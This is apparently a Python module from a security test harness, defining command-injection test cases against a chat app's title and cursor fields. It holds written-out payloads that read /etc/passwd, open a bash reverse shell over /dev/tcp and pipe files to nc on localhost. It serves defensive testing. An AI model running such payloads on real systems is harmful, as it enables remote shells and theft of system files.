"""OS command injection (OWASP A03:2021, CWE-78) in fields the app never hands to a shell: the WAF
refuses shell syntax everywhere except the chat text."""

from __future__ import annotations

from attacks.classify import Observation
from attacks.runner import Context, attack
from attacks.suites._common import query_payload, title_payload

SUITE = "command"
MARKERS = ("uid=", "root:x:0:0", "www-data")


@attack("A03-CMDI-TITLE-01", "Command substitution in the conversation title ($(id); cat /etc/passwd)",
        ["OWASP-A03:2021", "ASVS-V5.3.8", "CWE-78"], "edge", suite=SUITE)
async def cmdi_title(ctx: Context) -> Observation:
    return await title_payload(ctx, "alice", "report; cat /etc/passwd; $(id) `whoami`", MARKERS)


@attack("A03-CMDI-TITLE-02", "Pipe to a shell with a reverse connection in the title",
        ["OWASP-A03:2021", "ASVS-V5.3.8", "CWE-78"], "edge", suite=SUITE)
async def cmdi_title_pipe(ctx: Context) -> Observation:
    return await title_payload(ctx, "alice", "a | /bin/bash -i >& /dev/tcp/127.0.0.1/4444 0>&1", MARKERS)


@attack("A03-CMDI-QUERY-01", "Shell metacharacters in ?cursor=",
        ["OWASP-A03:2021", "ASVS-V5.3.8", "CWE-78"], "edge", suite=SUITE)
async def cmdi_query(ctx: Context) -> Observation:
    return await query_payload(ctx, "alice", {"cursor": ";cat /etc/passwd|nc 127.0.0.1 9"})
